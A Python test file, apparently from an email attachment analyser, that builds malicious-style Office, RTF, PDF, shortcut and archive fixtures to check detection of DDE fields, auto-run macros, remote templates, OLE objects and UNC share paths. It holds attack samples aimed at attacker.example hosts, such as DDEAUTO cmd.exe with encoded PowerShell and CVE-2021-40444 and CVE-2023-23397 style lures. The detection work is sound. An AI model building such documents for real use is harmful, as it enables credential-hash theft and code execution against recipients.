"""Attachment attacks are found, with evidence: the .msg reminder sound, DDE, remote templates, macros,
OLE objects, encrypted files, share paths. Every test file is built here from bytes (zipfile for
Office Open XML, plain bytes for RTF and PDF, extract-msg's OLE writer for .msg and OLE2); no corpus
file is used as a fixture."""

from __future__ import annotations

import base64
import binascii
import io
import struct
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

import olefile
from extract_msg.ole_writer import OleWriter

from inspector.analysis import analyse
from inspector.model import Category, Finding, Severity
from inspector.parsing import load_bytes

MSG_FIXTURES = Path(__file__).resolve().parent / "fixtures" / "msg"
UNC_SOUND = b"\\\\attacker.example\\share\\ding.wav"


def _codes(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.code, []).append(f)
    return out


def _msg_with_reminder_sound(value: bytes) -> bytes:
    """quick.msg (Apache POI) with PidLidReminderFileParameter added as Outlook writes it: a numeric
    named property 0x851F of PSETID_Common (already the file's GUID number 3), value in a string stream."""
    source = (MSG_FIXTURES / "quick.msg").read_bytes()
    writer = OleWriter()
    writer.fromOleFile(olefile.OleFileIO(source))
    entry_path = ["__nameid_version1.0", "__substg1.0_00030102"]
    entries = olefile.OleFileIO(source).openstream(entry_path).read()
    index = len(entries) // 8
    writer.editEntry(entry_path, data=entries + struct.pack("<IHH", 0x851F, 3 << 1, index))
    # This file stores 8-bit strings (001E); a 001F stream would switch extract-msg to UTF-16 for all.
    writer.addEntry(f"__substg1.0_{0x8000 + index:04X}001E", data=value + b"\x00")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_msg_reminder_sound_share_is_read_from_the_file() -> None:
    message = load_bytes(_msg_with_reminder_sound(UNC_SOUND))
    assert message.format == "msg"
    assert message.extra["reminder_file_parameter"] == UNC_SOUND.decode()
    unc = _codes(analyse(message).findings)["UNC_PATH"]
    [finding] = [f for f in unc if f.vector == "msg:PidLidReminderFileParameter"]
    assert finding.severity == Severity.HIGH
    assert finding.host == "attacker.example"
    assert finding.evidence["value"] == UNC_SOUND.decode()
    assert "CVE-2023-23397" in finding.explanation


def test_msg_reminder_sound_local_file_is_not_reported() -> None:
    message = load_bytes(_msg_with_reminder_sound(b"C:\\Windows\\Media\\ding.wav"))
    assert message.extra["reminder_file_parameter"] == "C:\\Windows\\Media\\ding.wav"
    assert not [f for f in analyse(message).findings if f.vector == "msg:PidLidReminderFileParameter"]


def test_msg_without_reminder_sound_has_none() -> None:
    message = load_bytes((MSG_FIXTURES / "quick.msg").read_bytes())
    assert "reminder_file_parameter" not in message.extra
    assert not [d for d in message.defects if d.kind == "NamedPropertyUnreadable"]


def _mail(attachment: bytes, filename: str, maintype: str = "application", subtype: str = "octet-stream",
          body: str = "see attachment") -> bytes:  # fmt: skip
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "b@victim.example", "attachment"
    msg.set_content(body)
    msg.add_attachment(attachment, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


def _attachment_findings(raw: bytes) -> dict[str, list[Finding]]:
    return _codes([f for f in analyse(load_bytes(raw)).findings if f.category != Category.SENDER])


# --- Builders: Office Open XML, OLE2, RTF, PDF, archives -------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS_NS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx(document: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS_NS + b'<Relationship Id="rId1" Type="' + REL + b'officeDocument" '
        b'Target="word/document.xml"/></Relationships>',
        "word/document.xml": body + document + b"</w:body></w:document>",
    }
    return _zip({**members, **(extra or {})})


def _xlsx(extra: dict[str, bytes]) -> bytes:
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS_NS + b'<Relationship Id="rId1" Type="' + REL + b'officeDocument" '
        b'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }
    return _zip({**members, **extra})


def _run(text: str) -> bytes:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'.encode()


def _field(*runs: str) -> bytes:
    begin = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
    return begin + b"".join(_run(r) for r in runs) + end + b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _ole(streams: dict[str, bytes]) -> bytes:
    """An OLE2 compound file holding `streams` ("Storage/Stream" paths), written by extract-msg's writer."""
    writer = OleWriter()
    for path, data in streams.items():
        writer.addEntry(path.split("/"), data=data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _ovba(text: str) -> bytes:
    """MS-OVBA compressed container holding `text` as literal tokens only (valid, just not smaller)."""
    data = text.encode("latin-1")
    assert len(data) <= 4096
    body = b"".join(b"\x00" + data[i : i + 8] for i in range(0, len(data), 8))
    header = (len(body) + 2 - 3) | 0xB000  # size - 3, signature 0b011, compressed flag
    return b"\x01" + header.to_bytes(2, "little") + body


VBA_SOURCE = 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n'


def _vba_project(source: str = VBA_SOURCE) -> bytes:
    return _ole({"VBA/ThisDocument": b"\x00" * 40 + _ovba(source), "VBA/dir": b"\x01\x00\x00", "PROJECT": b"ID=x"})


def _flag_encrypted(archive: bytes) -> bytes:
    """Set the 'encrypted' bit of every member, as a zip tool with a password does (content left as is)."""
    data = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 0x01
            at = data.find(signature, at + 4)
    return bytes(data)


def _hex(data: bytes) -> str:
    return data.hex()


def _ole1(class_name: bytes, native: bytes = b"") -> bytes:
    """An OLE1 EmbeddedObject header, as RTF \\objdata carries it."""
    name = class_name + b"\x00"
    return (
        b"\x01\x05\x00\x00\x02\x00\x00\x00"
        + len(name).to_bytes(4, "little")
        + name
        + b"\x00" * 8
        + len(native).to_bytes(4, "little")
        + native
    )


# --- Office Open XML ---------------------------------------------------------------------------------


def test_dde_field_split_over_runs_and_remote_template() -> None:
    """Issue 20's shape: DDEAUTO cmd.exe (written in two runs, as attackers do) and a remote attachedTemplate."""
    settings_rels = (
        RELS_NS + b'<Relationship Id="rId9" Type="' + REL + b'attachedTemplate" '
        b'Target="https://templates.attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    document = _field("DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -enc SQBFAFgA"')
    raw = _mail(_docx(document, {"word/_rels/settings.xml.rels": settings_rels}), "offer.docx")
    codes = _attachment_findings(raw)
    [dde] = codes["DDE_FIELD"]
    assert dde.severity == Severity.HIGH
    assert dde.evidence["member"] == "word/document.xml"
    assert dde.evidence["field"].startswith("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")
    [template] = codes["REMOTE_TEMPLATE"]
    assert template.host == "templates.attacker.example" and template.severity == Severity.HIGH


def test_field_fetching_from_a_share_is_a_share_path() -> None:
    document = _field('INCLUDEPICTURE "\\\\\\\\files.attacker.example\\\\share\\\\logo.png" \\d')
    [unc] = _attachment_findings(_mail(_docx(document), "letter.docx"))["UNC_PATH"]
    assert unc.host == "files.attacker.example" and unc.severity == Severity.HIGH
    assert unc.vector == "ooxml-field:INCLUDEPICTURE" and "windows_credentials" in unc.reveals
    assert "password hash" in unc.explanation


def test_fld_simple_with_entities_is_read() -> None:
    document = b'<w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    [dde] = _attachment_findings(_mail(_docx(document), "a.docx"))["DDE_FIELD"]
    assert dde.evidence["field"] == 'DDEAUTO cmd "/c calc"'


def test_excel_dde_link_and_formula() -> None:
    link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>'
    sheet = b"<worksheet><sheetData><row><c r='A1'><f>cmd|' /C powershell.exe'!A0</f></c></row></sheetData></worksheet>"
    raw = _mail(_xlsx({"xl/externalLinks/externalLink1.xml": link, "xl/worksheets/sheet1.xml": sheet}), "q.xlsx")
    fields = sorted(f.evidence["field"] for f in _attachment_findings(raw)["DDE_FIELD"])
    assert fields == ["DDE cmd|' /C powershell.exe'", "DDE cmd|'/c calc.exe'"]


def test_csv_dde_formula() -> None:
    csv = b"name,amount\r\nalice,=cmd|' /C calc'!A0\r\nbob,12\r\n"
    [dde] = _attachment_findings(_mail(csv, "export.csv", "text", "csv"))["DDE_FIELD"]
    assert dde.evidence["field"] == "DDE cmd|' /C calc'" and dde.evidence["member"] == "csv"


def test_vba_project_is_a_macro_document_with_what_it_does() -> None:
    raw = _mail(_docx(b"<w:p/>", {"word/vbaProject.bin": _vba_project()}), "report.docm")
    codes = _attachment_findings(raw)
    [macro] = codes["MACRO_DOCUMENT"]
    assert macro.category == Category.ATTACHMENT and macro.severity == Severity.HIGH
    assert macro.evidence["auto_run"] == ["AutoOpen"] and macro.evidence["calls"] == ["Shell"]
    assert "word/vbaProject.bin" in macro.evidence["seen"]
    assert "run by themselves (AutoOpen)" in macro.explanation
    assert "RISKY_ATTACHMENT" not in codes  # the content finding replaces the name-based one


def test_macro_workbook_renamed_as_a_picture() -> None:
    raw = _mail(_xlsx({"xl/vbaProject.bin": _vba_project()}), "holiday.jpg", "image", "jpeg")
    [macro] = _attachment_findings(raw)["MACRO_DOCUMENT"]
    assert macro.evidence["name_hides_type"] is True
    assert "holiday.jpg" in macro.explanation and "does not say what it is" in macro.explanation


def test_excel4_macro_sheet_with_auto_open() -> None:
    workbook = (
        b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>'
    )
    raw = _mail(_xlsx({"xl/workbook.xml": workbook, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "b.xlsx")
    [macro] = _attachment_findings(raw)["MACRO_DOCUMENT"]
    assert macro.evidence["seen"] == ["xl/macrosheets/sheet1.xml"] and macro.evidence["auto_run"] == ["Auto_Open"]


def test_remote_ole_object_relationship_is_an_ole_object_with_its_host() -> None:
    """CVE-2021-40444: an external oleObject relationship through mhtml:."""
    rels = (
        RELS_NS + b'<Relationship Id="rId5" Type="' + REL + b'oleObject" '
        b'Target="mhtml:http://payload.attacker.example/x.html!x-usc:http://payload.attacker.example/x.html" '
        b'TargetMode="External"/></Relationships>'
    )
    [obj] = _attachment_findings(_mail(_docx(b"<w:p/>", {"word/_rels/document.xml.rels": rels}), "c.docx"))[
        "OLE_OBJECT"
    ]
    assert obj.severity == Severity.HIGH and obj.host == "payload.attacker.example"
    assert obj.evidence["linked"] is True and obj.evidence["target"].startswith("mhtml:")


def test_embedded_package_object_names_its_file() -> None:
    native = b"\x00\x00\x00\x00\x02\x00invoice.exe\x00C:\\tmp\\invoice.exe\x00\x00\x00"
    package = _ole({"\x01Ole10Native": native, "\x01CompObj": b"\x00" * 28})
    raw = _mail(_docx(b"<w:p/>", {"word/embeddings/oleObject1.bin": package}), "d.docx")
    [obj] = _attachment_findings(raw)["OLE_OBJECT"]
    assert obj.severity == Severity.HIGH
    assert obj.evidence["class"] == "Package" and obj.evidence["embedded_file"] == "invoice.exe"
    assert obj.evidence["member"] == "word/embeddings/oleObject1.bin"


def test_plain_documents_have_no_attack_finding() -> None:
    link = (
        RELS_NS + b'<Relationship Id="rId2" Type="' + REL + b'hyperlink" '
        b'Target="https://www.example.org/" TargetMode="External"/></Relationships>'
    )
    plain = [
        _mail(_docx(b"<w:p><w:r><w:t>Hello</w:t></w:r></w:p>", {"word/_rels/document.xml.rels": link}), "a.docx"),
        _mail(_xlsx({"xl/worksheets/sheet1.xml": b"<worksheet><c><f>SUM(A1:A3)</f></c></worksheet>"}), "b.xlsx"),
        _mail(b"name;amount\r\nalice;=A1+2\r\n", "c.csv", "text", "csv"),
        _mail(_zip({"notes.txt": b"hello"}), "notes.zip", "application", "zip"),
        _mail(b'{\\rtf1\\ansi Hello {\\field{\\*\\fldinst HYPERLINK "https://www.example.org"}}}', "e.rtf"),
        _mail(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF", "f.pdf"),
    ]
    attack = {"DDE_FIELD", "MACRO_DOCUMENT", "OLE_OBJECT", "ENCRYPTED_ATTACHMENT", "UNC_PATH", "REMOTE_TEMPLATE"}
    for raw in plain:
        assert not attack & set(_attachment_findings(raw))


# --- OLE2 (legacy Office) ----------------------------------------------------------------------------


def test_legacy_word_file_with_macros_and_dde() -> None:
    word = b"\xec\xa5" + b"\x00" * 30 + b'text \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\x14x\x15'
    doc = _ole(
        {"WordDocument": word, "Macros/VBA/ThisDocument": b"\x00" * 8 + _ovba(VBA_SOURCE), "Macros/PROJECT": b"x"}
    )
    codes = _attachment_findings(_mail(doc, "invoice.doc", "application", "msword"))
    [macro] = codes["MACRO_DOCUMENT"]
    assert macro.evidence["container"] == "OLE2 (legacy Office)" and "Macros/VBA" in macro.evidence["seen"]
    assert macro.evidence["auto_run"] == ["AutoOpen"] and "name_hides_type" not in macro.evidence
    [dde] = codes["DDE_FIELD"]
    assert dde.vector == "doc-field:DDEAUTO" and dde.evidence["member"] == "WordDocument"


def test_legacy_excel_macro_project_hidden_behind_a_pdf_name() -> None:
    book = _ole({"Workbook": b"\x09\x08\x00\x00", "_VBA_PROJECT_CUR/VBA/Module1": b"\x00" * 4 + _ovba(VBA_SOURCE)})
    [macro] = _attachment_findings(_mail(book, "statement.pdf", "application", "pdf"))["MACRO_DOCUMENT"]
    assert macro.evidence["name_hides_type"] is True
    assert macro.evidence["seen"][0].startswith("_VBA_PROJECT_CUR")


def test_encrypted_office_documents() -> None:
    ooxml = _ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 64})
    word = _ole({"WordDocument": b"\xec\xa5" + b"\x00" * 9 + b"\x01" + b"\x00" * 20})
    book = _ole({"Workbook": b"\x09\x08\x02\x00\x00\x06" + b"\x2f\x00\x02\x00\x01\x00"})
    for raw, seen in ((ooxml, "EncryptedPackage"), (word, "fEncrypted"), (book, "FILEPASS")):
        [locked] = _attachment_findings(_mail(raw, "salary.docx"))["ENCRYPTED_ATTACHMENT"]
        assert locked.severity == Severity.MEDIUM and seen in locked.evidence["seen"]
    [ooxml_locked] = _attachment_findings(_mail(ooxml, "salary.docx"))["ENCRYPTED_ATTACHMENT"]
    assert "name_hides_type" not in ooxml_locked.evidence


# --- RTF ---------------------------------------------------------------------------------------------


def test_rtf_equation_object_that_updates_itself() -> None:
    rtf = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata " + _hex(_ole1(b"Equation.3")).encode() + b"}}}"
    [obj] = _attachment_findings(_mail(rtf, "order.doc", "application", "msword"))["OLE_OBJECT"]
    assert obj.severity == Severity.HIGH
    assert obj.evidence["class"] == "Equation.3" and obj.evidence["auto_update"] is True
    assert obj.evidence["kind"] == "objemb" and obj.evidence["name_hides_type"] is True


def test_rtf_package_object_with_noise_in_its_hex_and_a_bare_rt_header() -> None:
    native = b"\x02\x00report.pdf.lnk\x00C:\\x\\report.pdf.lnk\x00"
    hexdata = _hex(_ole1(b"Package", native))
    noisy = hexdata[:10] + "\r\n{\\*\\junk}" + hexdata[10:30] + " \\par " + hexdata[30:]
    rtf = b"{\\rtxyz{\\object{\\*\\objdata " + noisy.encode() + b"}}}"
    [obj] = _attachment_findings(_mail(rtf, "a.rtf"))["OLE_OBJECT"]
    assert obj.evidence["class"] == "Package" and obj.evidence["embedded_file"] == "report.pdf.lnk"


def test_rtf_dde_field_split_in_groups() -> None:
    rtf = b'{\\rtf1{\\field{\\*\\fldinst {\\rtlch DD}{E\\\'41UTO cmd "/c calc"}}{\\fldrslt x}}}'
    [dde] = _attachment_findings(_mail(rtf, "b.rtf"))["DDE_FIELD"]
    assert dde.evidence["field"] == 'DDEAUTO cmd "/c calc"' and dde.vector == "rtf-field:DDEAUTO"


def test_rtf_template_on_a_share() -> None:
    rtf = b"{\\rtf1{\\*\\template \\\\\\\\smb.attacker.example\\\\t\\\\n.dotm}}"
    [unc] = _attachment_findings(_mail(rtf, "c.rtf"))["UNC_PATH"]
    assert unc.host == "smb.attacker.example" and unc.vector == "rtf:\\*\\template"


# --- OpenDocument, ActiveMime -------------------------------------------------------------------------


def test_odt_with_basic_macro_on_load_and_remote_template() -> None:
    meta = (
        b'<office:document-meta><meta:template xlink:href="https://tpl.attacker.example/t.ott"/></office:document-meta>'
    )
    content = (
        b"<office:document-content><office:scripts><office:event-listeners><script:event-listener "
        b'script:language="ooo:script" script:event-name="office:load" '
        b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        b"</office:event-listeners></office:scripts></office:document-content>"
    )
    odt = _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "meta.xml": meta,
            "Basic/Standard/Module1.xml": b'<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>',
            "Basic/Standard/script-lb.xml": b"<library:library/>",
        }
    )
    codes = _attachment_findings(_mail(odt, "minutes.odt"))
    [macro] = codes["MACRO_DOCUMENT"]
    assert macro.evidence["seen"] == ["Basic/Standard/Module1.xml"] and macro.evidence["auto_run"] == ["office:load"]
    [template] = codes["REMOTE_TEMPLATE"]
    assert template.host == "tpl.attacker.example" and template.vector == "odf:meta.xml[meta:template]"


def test_word_xml_with_activemime_macros() -> None:
    blob = b"ActiveMime\x00\x00\x01\xf0" + b"\x00" * 36 + zlib.compress(_ole({"Macros/VBA/ThisDocument": b"x"}))
    xml = (
        b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:docOleData>'
        b'<w:binData w:name="editdata.mso">'
        + base64.encodebytes(blob)
        + b"</w:binData></w:docOleData></w:wordDocument>"
    )
    [macro] = _attachment_findings(_mail(xml, "memo.xml", "text", "xml"))["MACRO_DOCUMENT"]
    assert macro.evidence["seen"] == ["ActiveMime: Macros/VBA"]


# --- Archives, PDF, plain text ------------------------------------------------------------------------


def test_encrypted_zip_with_the_password_in_the_message() -> None:
    locked = _flag_encrypted(_zip({"scan_0412.js": b"x" * 40}))
    raw = _mail(locked, "scan.zip", "application", "zip", body="Your invoice is attached. Password: 4412")
    codes = _attachment_findings(raw)
    [enc] = codes["ENCRYPTED_ATTACHMENT"]
    assert enc.evidence["container"] == "zip archive" and "scan_0412.js" in enc.evidence["seen"]
    assert enc.evidence["password_hint"] == "Password: 4412"
    assert "Password: 4412" in enc.explanation
    assert codes["RISKY_ATTACHMENT"][0].severity == Severity.HIGH  # the member names are still listed


def test_encrypted_rar() -> None:
    main = b"\x00\x00\x73\x00\x00\x0d\x00" + b"\x00" * 6
    entry = b"\x00\x00\x74\x04\x80\x20\x00" + (16).to_bytes(4, "little") + b"\x00" * 21
    rar = b"Rar!\x1a\x07\x00" + main + entry + b"\x00" * 16
    [enc] = _attachment_findings(_mail(rar, "docs.rar"))["ENCRYPTED_ATTACHMENT"]
    assert enc.evidence["container"] == "RAR archive"


def test_pdf_encrypted_and_pdf_pointing_to_a_share() -> None:
    locked = b"%PDF-1.6\n1 0 obj << >> endobj\ntrailer << /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF"
    [enc] = _attachment_findings(_mail(locked, "statement.pdf"))["ENCRYPTED_ATTACHMENT"]
    assert enc.evidence["container"] == "PDF"
    share = b"%PDF-1.4\n1 0 obj << /AA << /O << /S /GoToE /F (\\\\\\\\smb.attacker.example\\\\s\\\\a.pdf) >> >> >>"
    [unc] = _attachment_findings(_mail(share, "b.pdf"))["UNC_PATH"]
    assert unc.host == "smb.attacker.example" and unc.vector == "pdf:/F"
    assert unc.evidence["value"] == "\\\\smb.attacker.example\\s\\a.pdf"


def test_share_path_in_a_plain_text_body() -> None:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@sender.example", "b@victim.example", "scan"
    msg.set_content("The scan is on \\\\files.attacker.example\\scans\\0412.pdf, please check.")
    [unc] = _codes(analyse(load_bytes(msg.as_bytes())).findings)["UNC_PATH"]
    assert unc.host == "files.attacker.example" and unc.severity == Severity.MEDIUM
    assert unc.vector == "text:share-path" and unc.url == "file://files.attacker.example/scans/0412.pdf"


def _compobj(progid: bytes) -> bytes:
    """A \\x01CompObj stream: 28-byte header, user type, clipboard format, then the ProgID."""
    user = b"Microsoft Object\x00"
    return (
        b"\x00" * 28
        + len(user).to_bytes(4, "little")
        + user
        + b"\x00" * 4
        + (len(progid) + 1).to_bytes(4, "little")
        + progid
        + b"\x00"
    )


def test_legacy_document_describing_itself_is_no_object_but_its_embedded_chart_is_a_low_one() -> None:
    plain = _ole({"WordDocument": b"\xec\xa5" + b"\x00" * 30, "\x01CompObj": _compobj(b"Word.Document.8")})
    assert "OLE_OBJECT" not in _attachment_findings(_mail(plain, "minutes.doc", "application", "msword"))
    chart = _ole(
        {"WordDocument": b"\xec\xa5" + b"\x00" * 30, "ObjectPool/_1234/\x01CompObj": _compobj(b"Excel.Sheet.8")}
    )
    [obj] = _attachment_findings(_mail(chart, "minutes.doc", "application", "msword"))["OLE_OBJECT"]
    assert obj.severity == Severity.LOW and obj.evidence["class"] == "Excel.Sheet.8"
    assert obj.evidence["storage"] == "ObjectPool/_1234"


def test_programs_are_found_by_content_whatever_their_name() -> None:
    for program in (b"MZ\x90\x00" + b"\x00" * 60, b"\x7fELF\x02\x01\x01" + b"\x00" * 57):
        [risky] = _attachment_findings(_mail(program, "notes.txt", "text", "plain"))["RISKY_ATTACHMENT"]
        assert risky.severity == Severity.HIGH and risky.evidence["kind"] == "program"


# --- Issue 21: loads the report did not list (attachments) -------------------------------------------


def test_shortcuts_name_their_share_or_host() -> None:
    cases = [
        (
            "invoice.url",
            b"[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=\\\\icons.attacker.example\\s\\i.ico\r\n",
        ),
        ("printer.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\scf.attacker.example\\share\\test.ico\r\n"),
        (
            "docs.library-ms",
            b'<?xml version="1.0"?><libraryDescription><searchConnectorDescriptionList><searchConnectorDescription>'
            b"<simpleLocation><url>\\\\lib.attacker.example\\share</url></simpleLocation>"
            b"</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
        ),
        (
            "find.searchConnector-ms",
            b'<?xml version="1.0"?><searchConnectorDescription><iconReference>\\\\conn.attacker.example\\i.ico'
            b"</iconReference></searchConnectorDescription>",
        ),
        (
            "open.desktop",
            b"[Desktop Entry]\nType=Link\nName=Invoice\nURL=smb://ignored\nIcon=x\nURL=file://desk.attacker.example/s/x\n",
        ),
    ]
    for filename, data in cases:
        codes = _attachment_findings(_mail(data, filename))
        [unc] = codes["UNC_PATH"]
        assert unc.host.endswith(".attacker.example") and unc.vector.startswith("shortcut:"), filename
        [risky] = codes["RISKY_ATTACHMENT"]
        assert risky.host == unc.host and risky.evidence["kind"] == "shortcut", filename
        assert unc.host in risky.explanation


def test_shortcut_to_a_web_page_names_the_host_on_the_shortcut_finding() -> None:
    webloc = (
        b'<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict><key>URL</key>'
        b"<string>https://login.attacker.example/x</string></dict></plist>"
    )
    codes = _attachment_findings(_mail(webloc, "Invoice.webloc"))
    [risky] = codes["RISKY_ATTACHMENT"]
    assert risky.host == "login.attacker.example" and risky.url == "https://login.attacker.example/x"
    assert "UNC_PATH" not in codes and "ATTACHMENT_REMOTE_REF" not in codes  # opened on a click, not loaded


def test_lnk_share_path_in_utf16_strings() -> None:
    lnk = (
        b"L\x00\x00\x00\x01\x14\x02\x00"
        + b"\x00" * 68
        + "\\\\lnk.attacker.example\\share\\a.ico".encode("utf-16-le")
        + b"\x00\x00"
    )
    [unc] = _attachment_findings(_mail(lnk, "Report.pdf.lnk"))["UNC_PATH"]
    assert unc.host == "lnk.attacker.example"


def test_ods_with_a_remote_image() -> None:
    content = (
        b'<office:document-content><office:body><draw:frame><draw:image xlink:href="https://img.attacker.example/p.png"'
        b' xlink:type="simple"/></draw:frame><text:a xlink:href="https://click.example/"/></office:body>'
        b"</office:document-content>"
    )
    ods = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content})
    codes = _attachment_findings(_mail(ods, "figures.ods"))
    [remote] = codes["ATTACHMENT_REMOTE_REF"]
    assert remote.host == "img.attacker.example" and remote.vector == "odf:content.xml[draw:image]"
    assert not any(f.host == "click.example" for fs in codes.values() for f in fs)


def test_rtf_unquoted_and_split_includepicture() -> None:
    rtf = (
        b"{\\rt{\\field{\\*\\fldinst {INCLUDE}{PICTURE http://pic.attacker.example/a.png \\\\d}}{\\fldrslt}}"
        b'{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\smb.attacker.example\\\\\\\\x\\\\\\\\y.png"}}}'
    )
    codes = _attachment_findings(_mail(rtf, "note.doc"))
    [field] = codes["OFFICE_FIELD"]
    assert field.host == "pic.attacker.example" and field.vector == "rtf-field:INCLUDEPICTURE"
    [unc] = codes["UNC_PATH"]
    assert unc.host == "smb.attacker.example"


def test_pdf_page_open_uri_escaped_names_and_compressed_object_streams() -> None:
    page_open = b"%PDF-1.7\n3 0 obj << /Type /Page /AA << /O << /S /URI /URI (https://open.attacker.example/p) >> >> >>"
    [action] = _attachment_findings(_mail(page_open, "a.pdf"))["PDF_ACTION"]
    assert action.host == "open.attacker.example" and action.evidence["auto"] is True
    escaped = (
        b"%PDF-1.7\n1 0 obj << /OpenAction << /S /L#61unch /F (calc.exe) >> >>\n"
        b"2 0 obj << /S /#55RI /#55RI (https://esc.attacker.example/) >>"
    )
    [action] = _attachment_findings(_mail(escaped, "b.pdf"))["PDF_ACTION"]
    assert "Launch" in action.evidence["actions"] and action.host == "esc.attacker.example"
    hidden = zlib.compress(
        b"5 0 << /OpenAction << /S /JavaScript /JS (app.launchURL('https://objstm.attacker.example/')) >> "
        b"/URI (https://objstm.attacker.example/) >>"
    )
    objstm = b"%PDF-1.7\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
    [action] = _attachment_findings(_mail(objstm + hidden + b"\nendstream\nendobj\n", "c.pdf"))["PDF_ACTION"]
    assert action.host == "objstm.attacker.example" and "JavaScript" in action.evidence["compressed"]


def test_calendar_html_description_is_scanned() -> None:
    ics = (
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Meeting\r\n"
        b'X-ALT-DESC;FMTTYPE=text/html:<html><body><img src="https://cal.attacker.ex\r\n ample/p.gif?u=1" width=1\r\n'
        b"  height=1>\\n<p>Agenda\\, notes</p></body></html>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    findings = [
        f
        for f in analyse(load_bytes(_mail(ics, "invite.ics", "text", "calendar"))).findings
        if f.category == Category.BEACON
    ]
    assert any(f.host == "cal.attacker.example" and f.evidence.get("attachment") == "invite.ics" for f in findings)


def test_xml_stylesheet_and_external_dtd() -> None:
    xml = (
        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://xsl.attacker.example/s.xsl"?>\n'
        b'<!DOCTYPE order SYSTEM "https://dtd.attacker.example/o.dtd">\n<order/>'
    )
    codes = _attachment_findings(_mail(xml, "order.xml", "text", "xml"))
    hosts = sorted((f.host, f.vector) for f in codes["ATTACHMENT_REMOTE_REF"])
    assert hosts == [("dtd.attacker.example", "xml:doctype"), ("xsl.attacker.example", "xml:stylesheet")]
    xhtml = (
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'
    )
    assert "ATTACHMENT_REMOTE_REF" not in _attachment_findings(_mail(xhtml, "page.xml", "text", "xml"))


def test_xml_inside_a_picture_is_not_an_xml_file() -> None:
    xmp = b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
    jpeg = b"\xff\xd8\xff\xe1\x00\x10Exif\x00\x00" + xmp + b"\xff\xd9"
    assert "ATTACHMENT_REMOTE_REF" not in _attachment_findings(_mail(jpeg, "photo.jpg", "image", "jpeg"))


# --- Issue 21: messages carried opaquely (parsing) ---------------------------------------------------

INNER_HTML = (
    b"From: billing@shop.example\r\nTo: b@victim.example\r\nSubject: inner\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/html\r\n\r\n"
    b'<html><body><p>Pay now</p><img src="https://{host}/o.gif" width="1" height="1"></body></html>\r\n'
)


def _inner(host: str) -> bytes:
    return INNER_HTML.replace(b"{host}", host.encode())


def _beacon_hosts(raw: bytes) -> set[str]:
    report = analyse(load_bytes(raw))
